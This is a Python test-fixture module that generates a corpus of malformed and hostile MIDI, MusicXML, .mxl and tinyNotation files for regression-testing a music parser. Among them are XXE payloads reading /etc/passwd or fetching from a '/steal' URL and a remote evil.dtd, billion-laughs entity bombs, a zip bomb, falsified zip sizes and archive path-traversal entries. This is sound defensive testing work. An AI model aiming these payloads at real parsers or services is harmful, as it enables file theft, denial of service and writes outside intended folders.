"""Builders for hostile input files: raw MIDI bytes (no validation), MusicXML text and .mxl archives.

mido and music21 refuse to write most of these (a note number of 200, a 0/0 time signature), so
the MIDI here is assembled byte by byte, in the layout of the Standard MIDI File spec.
"""

from __future__ import annotations

import io
import struct
import zipfile
from fractions import Fraction
from pathlib import Path


def vlq(value: int) -> bytes:
    """A MIDI variable-length number (7 bits a byte, high bit set on all but the last)."""
    out = [value & 0x7F]
    value >>= 7
    while value:
        out.append(0x80 | (value & 0x7F))
        value >>= 7
    return bytes(reversed(out))


def note_on(delta: int, note: int, velocity: int = 80, channel: int = 0) -> bytes:
    return vlq(delta) + bytes([0x90 | channel, note & 0xFF, velocity & 0xFF])


def note_off(delta: int, note: int, channel: int = 0) -> bytes:
    return vlq(delta) + bytes([0x80 | channel, note & 0xFF, 0])


def meta(delta: int, kind: int, payload: bytes) -> bytes:
    return vlq(delta) + bytes([0xFF, kind]) + vlq(len(payload)) + payload


def time_signature(numerator: int, denominator_power: int, delta: int = 0) -> bytes:
    return meta(delta, 0x58, bytes([numerator & 0xFF, denominator_power & 0xFF, 24, 8]))


def key_signature(sharps: int, minor: int, delta: int = 0) -> bytes:
    return meta(delta, 0x59, bytes([sharps & 0xFF, minor & 0xFF]))


def tempo(microseconds: int, delta: int = 0) -> bytes:
    return meta(delta, 0x51, (microseconds & 0xFFFFFF).to_bytes(3, "big"))


END_OF_TRACK = meta(0, 0x2F, b"")


def track(*events: bytes, end: bool = True) -> bytes:
    body = b"".join(events) + (END_OF_TRACK if end else b"")
    return b"MTrk" + struct.pack(">I", len(body)) + body


def smf(*tracks: bytes, division: int = 480, kind: int = 1, count: int | None = None) -> bytes:
    """A Standard MIDI File: header (format, track count, ticks per quarter) and the track chunks."""
    header = struct.pack(">IHHH", 6, kind, len(tracks) if count is None else count, division & 0xFFFF)
    return b"MThd" + header + b"".join(tracks)


def melody_track(pitches: list[int], *, tpb: int = 480, length: int = 480) -> bytes:
    events = []
    for pitch in pitches:
        events += [note_on(0, pitch), note_off(length, pitch)]
    return track(*events)


def valid_midi(pitches: list[int] | None = None, *, tpb: int = 480) -> bytes:
    pitches = pitches or [60, 62, 64, 65, 67, 65, 64, 62]
    conductor = track(tempo(500_000), time_signature(3, 2), key_signature(0, 0))
    return smf(conductor, melody_track(pitches, tpb=tpb), division=tpb)


# --- MusicXML ------------------------------------------------------------------------------

DOCTYPE = (
    '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!DOCTYPE score-partwise PUBLIC '
    '"-//Recordare//DTD MusicXML 4.0 Partwise//EN" "http://www.musicxml.org/dtds/partwise.dtd">\n'
)


def xml_note(step: str = "C", octave: object = 4, duration: object = 1, *, alter: object = None,
             extra: str = "", chord: bool = False) -> str:
    pitch = f"<step>{step}</step>" + (f"<alter>{alter}</alter>" if alter is not None else "")
    return (f"<note>{'<chord/>' if chord else ''}<pitch>{pitch}<octave>{octave}</octave></pitch>"
            f"<duration>{duration}</duration>{extra}</note>")


def score_xml(measures: list[str], *, divisions: object = 1, beats: object = 4, beat_type: object = 4,
              fifths: object = 0, prolog: str = DOCTYPE, parts: int = 1, name: str = "Melody") -> str:
    """A partwise score: every part gets the same measures; the first measure carries the attributes."""
    score_parts = "".join(f'<score-part id="P{i}"><part-name>{name}</part-name></score-part>'
                          for i in range(1, parts + 1))
    attributes = (f"<attributes><divisions>{divisions}</divisions><key><fifths>{fifths}</fifths></key>"
                  f"<time><beats>{beats}</beats><beat-type>{beat_type}</beat-type></time></attributes>")
    body = "".join(
        f'<measure number="{n + 1}">{attributes if n == 0 else ""}{m}</measure>' for n, m in enumerate(measures)
    )
    part_xml = "".join(f'<part id="P{i}">{body}</part>' for i in range(1, parts + 1))
    return f'{prolog}<score-partwise version="4.0"><part-list>{score_parts}</part-list>{part_xml}</score-partwise>'


def valid_score(pitches: str = "CDEFGFED") -> str:
    notes = [xml_note(step) for step in pitches]
    return score_xml(["".join(notes[i:i + 4]) for i in range(0, len(notes), 4)])


CONTAINER = (
    '<?xml version="1.0" encoding="UTF-8"?><container><rootfiles>'
    '<rootfile full-path="{path}" media-type="application/vnd.recordare.musicxml+xml"/></rootfiles></container>'
)


def mxl(members: dict[str, bytes | str], *, encrypted: tuple[str, ...] = ()) -> bytes:
    """A zip archive of the members given (a container.xml is not added for you)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    data = buffer.getvalue()
    for name in encrypted:  # claim traditional PKWARE encryption (zipfile cannot write it)
        data = _patch_headers(data, name, lambda header, flags_at: header[flags_at] | 0x1, (6, 8), 1)
    return data


def valid_mxl(score: str | None = None, path: str = "score.musicxml") -> bytes:
    return mxl({"META-INF/container.xml": CONTAINER.format(path=path), path: score or valid_score()})


def lie_about_size(archive: bytes, name: str, size: int) -> bytes:
    """Rewrite the uncompressed size of member ``name`` (local and central headers) to ``size``."""
    return _patch_headers(archive, name, lambda header, at: size, (22, 24), 4)


def _patch_headers(archive: bytes, name: str, value, offsets: tuple[int, int], width: int) -> bytes:
    """Set a field of ``name``'s local header (offsets[0]) and central header (offsets[1])."""
    data = bytearray(archive)
    for signature, field, name_length_at, name_at in ((b"PK\x03\x04", offsets[0], 26, 30),
                                                      (b"PK\x01\x02", offsets[1], 28, 46)):
        at = data.find(signature)
        while at != -1:
            length = int.from_bytes(data[at + name_length_at : at + name_length_at + 2], "little")
            if data[at + name_at : at + name_at + length] == name.encode():
                new = value(data, at + field)
                data[at + field : at + field + width] = new.to_bytes(width, "little")
            at = data.find(signature, at + 4)
    return bytes(data)


def write(folder: Path, name: str, data: bytes | str) -> Path:
    path = folder / name
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    return path


def quarters(ticks: int, tpb: int = 480) -> Fraction:
    return Fraction(ticks, tpb)


# --- the regression corpus -------------------------------------------------------------------

XXE_PASSWD = DOCTYPE.split("<!DOCTYPE")[0] + (
    '<!DOCTYPE score-partwise [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
)
BILLION_LAUGHS = '<?xml version="1.0"?>\n<!DOCTYPE score-partwise [<!ENTITY lol0 "lol">' + "".join(
    f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
) + "]>\n"


def corpus() -> dict[str, bytes]:
    """Small hostile files, one per trap found or guarded against; `python -m tests.nasty` rewrites them."""
    tune = [xml_note(step) for step in "CDEFGFED"]
    bars = ["".join(tune[:4]), "".join(tune[4:])]
    big_zero = b"\0" * (17 * 1024 * 1024)
    files: dict[str, bytes | str] = {
        # MIDI
        "midi-empty.mid": b"",
        "midi-header-cut.mid": b"MThd\x00\x00",
        "midi-track-cut.mid": valid_midi()[:-7],
        "midi-ticks-per-beat-zero.mid": smf(melody_track([60, 62]), division=0),
        "midi-smpte.mid": smf(melody_track([60, 62]), division=0xE728),
        "midi-no-tracks.mid": smf(count=3),
        "midi-running-status-first.mid": smf(track(b"\x00\x3c\x40")),
        "midi-chunk-length-huge.mid": smf() + b"MTrk\xff\xff\xff\xff\x00\x90\x3c\x40",
        "midi-varlen-five-bytes.mid": smf(track(b"\xff\xff\xff\xff\x7f\x90\x3c\x40")),
        "midi-meta-overruns.mid": smf(track(b"\x00\xff\x03\x87\x68abc", end=False)),
        "midi-sysex-overruns.mid": smf(track(b"\x00\xf0\x87\x68\x01\x02", end=False)),
        "midi-unknown-status.mid": smf(track(b"\x00\xf4", note_on(0, 60))),
        "midi-2000-tracks.mid": smf(*[track() for _ in range(2000)]),
        "midi-only-drums.mid": smf(track(*[e for p in (36, 38) for e in (note_on(0, p, channel=9),
                                                                          note_off(480, p, channel=9))])),
        "midi-time-signature-0-over-1.mid": smf(track(time_signature(0, 0), note_on(0, 60), note_off(480, 60))),
        "midi-time-signature-255-over-2-255.mid": smf(track(time_signature(255, 255), note_on(0, 60),
                                                            note_off(480, 60))),
        "midi-notes-over-127.mid": smf(track(note_on(0, 200, 255), note_off(480, 200))),
        "midi-tempo-zero-and-huge.mid": smf(track(tempo(0), note_on(0, 60), note_off(480, 60),
                                                  tempo(0xFFFFFF), note_on(0, 64), note_off(480, 64))),
        "midi-huge-deltas.mid": smf(track(note_on(0x0FFFFFFF, 60), note_off(0x0FFFFFFF, 60),
                                          note_on(0x0FFFFFFF, 62), note_off(1, 62)), division=1),
        "midi-ticks-per-beat-max.mid": smf(melody_track([60, 64, 67], length=0x7FFF), division=0x7FFF),
        "midi-key-signature-absurd.mid": smf(track(key_signature(100, 7), note_on(0, 60), note_off(480, 60))),
        "midi-never-released.mid": smf(track(*[note_on(120, p) for p in range(40, 90)])),
        "midi-riff-wrapped.mid": b"RIFF\x20\x00\x00\x00RMIDdata" + valid_midi()[:20],
        # MusicXML
        "xml-xxe-passwd.musicxml": score_xml(bars, prolog=XXE_PASSWD, name="&secret;"),
        "xml-xxe-network.musicxml": score_xml(bars, prolog='<!DOCTYPE score-partwise [<!ENTITY net SYSTEM '
                                              '"http://127.0.0.1:9/steal">]>', name="&net;"),
        "xml-parameter-entity.musicxml": score_xml(bars, prolog='<!DOCTYPE score-partwise [<!ENTITY % remote '
                                                   'SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>'),
        "xml-billion-laughs.musicxml": score_xml(bars, prolog=BILLION_LAUGHS, name="&lol9;"),
        "xml-quadratic-blowup.musicxml": score_xml(bars, prolog='<!DOCTYPE score-partwise [<!ENTITY a "'
                                                   + "x" * 20_000 + '">]>', name="&a;" * 200),
        "xml-xxe-utf16.musicxml": score_xml(bars, prolog=XXE_PASSWD.replace("UTF-8", "UTF-16"),
                                            name="&secret;").encode("utf-16"),
        "xml-deep-nesting.musicxml": "<score-partwise>" + "<a>" * 2_000 + "</a>" * 2_000 + "</score-partwise>",
        "xml-long-tag.musicxml": '<score-partwise x="' + "y" * 70_000 + '"/>',
        "xml-cut-short.musicxml": score_xml(bars)[:-40],
        "xml-unknown-encoding.musicxml": score_xml(bars).replace('encoding="UTF-8"', 'encoding="TTF-8"', 1),
        "xml-divisions-zero.musicxml": score_xml(bars, divisions=0),
        "xml-time-0-over-0.musicxml": score_xml(bars, beats=0, beat_type=0),
        "xml-time-huge.musicxml": score_xml(bars, beats=10**6, beat_type=10**6),
        "xml-tuplet-1000-to-1.musicxml": score_xml(["".join(xml_note(extra="<time-modification><actual-notes>"
                                                   "1000</actual-notes><normal-notes>1</normal-notes>"
                                                   "</time-modification>") for _ in range(4))]),
        "xml-giant-duration.musicxml": score_xml([xml_note(duration=10**15)]),
        "xml-negative-duration.musicxml": score_xml([xml_note(duration=-1) + xml_note()]),
        "xml-octave-absurd.musicxml": score_xml([xml_note(octave=10**15) + xml_note(octave=-10**12)]),
        "xml-alter-nan.musicxml": score_xml([xml_note(alter="nan")]),
        "xml-100-empty-measures.musicxml": score_xml([""] * 100 + [xml_note()]),
        "xml-timewise.musicxml": '<score-timewise version="4.0"><part-list/></score-timewise>',
        "xml-html-page.xml": "<html><body>not music</body></html>",
        "xml-no-part-list.musicxml": score_xml(bars).replace('<part-list><score-part id="P1"><part-name>Melody'
                                                             '</part-name></score-part></part-list>', ""),
        "xml-three-parts.musicxml": score_xml(bars, parts=3),
        # compressed MusicXML
        "mxl-not-a-zip.mxl": b"PK\x03\x04 this is not really a zip archive",
        "mxl-cut-short.mxl": valid_mxl()[:200],
        "mxl-no-container.mxl": mxl({"score.musicxml": valid_score()}),
        "mxl-container-without-rootfile.mxl": mxl({"META-INF/container.xml": "<container/>",
                                                   "score.musicxml": valid_score()}),
        "mxl-container-points-nowhere.mxl": mxl({"META-INF/container.xml": CONTAINER.format(path="gone.xml"),
                                                 "score.musicxml": valid_score()}),
        "mxl-container-xxe.mxl": mxl({"META-INF/container.xml": XXE_PASSWD + CONTAINER.format(path="&secret;"),
                                      "score.musicxml": valid_score()}),
        "mxl-score-xxe.mxl": valid_mxl(score_xml(bars, prolog=XXE_PASSWD, name="&secret;")),
        "mxl-path-traversal.mxl": valid_mxl(path="../../outside.musicxml"),
        "mxl-absolute-path.mxl": valid_mxl(path="/tmp/outside.musicxml"),
        "mxl-backslash-path.mxl": valid_mxl(path="..\\outside.musicxml"),
        "mxl-drive-letter.mxl": valid_mxl(path="C:/outside.musicxml"),
        "mxl-encrypted.mxl": mxl({"META-INF/container.xml": CONTAINER.format(path="score.musicxml"),
                                  "score.musicxml": valid_score()}, encrypted=("score.musicxml",)),
        "mxl-300-members.mxl": mxl({"META-INF/container.xml": CONTAINER.format(path="score.musicxml"),
                                    "score.musicxml": valid_score(),
                                    **{f"junk/{i}.txt": "x" for i in range(300)}}),
        "mxl-zip-bomb.mxl": valid_mxl(big_zero),
        "mxl-lying-size.mxl": lie_about_size(valid_mxl(big_zero), "score.musicxml", 100),
        "mxl-declared-huge.mxl": lie_about_size(valid_mxl(), "score.musicxml", 2**31),
        # tinyNotation motif files
        "tn-nested-tuplets.tn": "trip{trip{trip{trip{c8 d e}}}}",
        "tn-octave-marks-run.tn": "c" + "'" * 3000 + "x",
        "tn-pickup-exponent.tn": "# pickup: 1e999999999\nc d e",
        "tn-huge-meter.tn": "9" * 5000 + "/4 c",
        "tn-meter-0-over-0.tn": "0/0 c d e",
        "tn-not-utf8.tn": b"\xff\xfe c d e",
        "tn-nul-bytes.tn": b"c\0d\0e",
        "tn-10000-notes.tn": "c64 " * 10_000,
        "tn-pitch-out-of-range.tn": "c'''''' d",
        "tn-tie-to-rest.tn": "c4~ r4",
        "tn-bracket-never-closed.tn": "trip{c8 d e",
        "tn-only-comments.tn": "# nothing but a description\n",
    }
    return {name: data.encode() if isinstance(data, str) else data for name, data in files.items()}


if __name__ == "__main__":
    folder = Path(__file__).resolve().parent / "corpus"
    folder.mkdir(exist_ok=True)
    for name, data in corpus().items():
        (folder / name).write_bytes(data)
    print(f"wrote {len(corpus())} files to {folder}")
